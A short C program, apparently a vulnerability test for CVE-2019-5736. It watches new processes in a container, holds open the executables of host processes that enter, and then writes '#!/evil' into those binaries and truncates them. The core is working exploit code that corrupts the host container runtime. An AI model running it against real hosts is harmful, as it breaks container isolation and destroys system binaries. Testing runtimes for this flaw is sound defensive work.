/*
 * CVE-2019-5736: opens the program of every process that appears, and afterwards writes to it.
 *
 * Runs until there is a file /tmp/stop. Prints "caught" when it holds a program that is none of the image's, and at the end how many of those it
 * held, and how many of them it could change.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

enum { HELD = 256, AHEAD = 8 };

static int held[HELD];
static int count;

/* Keeps the program open if it came from outside: true once for each process. */
static int hold(int pid)
{
	char path[64], name[256];
	ssize_t length;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	length = readlink(path, name, sizeof(name) - 1);
	name[length < 0 ? 0 : length] = 0;
	if (count < HELD && (strstr(name, "memfd:") || strstr(name, "sampan"))) {
		held[count++] = fd;
		if (count == 1) {
			puts("caught");
			fflush(stdout);
		}
		return 1;
	}
	close(fd);
	return 0;
}

static int changed(int fd)
{
	char path[64];
	int writable, done;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	writable = open(path, O_WRONLY | O_CLOEXEC);
	if (writable < 0)
		return 0;
	done = pwrite(writable, "#!/evil\n", 8, 0) > 0;
	done |= ftruncate(writable, 0) == 0;
	close(writable);
	return done;
}

/* The last process of this pid namespace, for whom many have come and gone while it had no processor. (proc(5): loadavg) */
static int last(void)
{
	char text[64];
	int fd = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);
	ssize_t length = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);
	const char *at;

	close(fd);
	text[length < 0 ? 0 : length] = 0;
	at = strrchr(text, ' ');
	return at ? atoi(at) : 0;
}

int main(void)
{
	int newest = getpid(), known = 0, written = 0;

	puts("ready");
	fflush(stdout);
	for (int round = 0; access("/tmp/stop", F_OK) != 0; round++) {
		int seen = round % AHEAD == 0 ? last() : 0;

		newest = seen > newest ? seen : newest;
		for (int pid = newest; pid < newest + AHEAD; pid++) {
			char path[32];

			if (pid != known && hold(pid))
				known = pid;
			snprintf(path, sizeof(path), "/proc/%d", pid);
			if (pid > newest && access(path, F_OK) == 0)
				newest = pid;
		}
	}
	for (int i = 0; i < count; i++)
		written += changed(held[i]);
	printf("held %d changed %d\n", count, written);
	return 0;
}
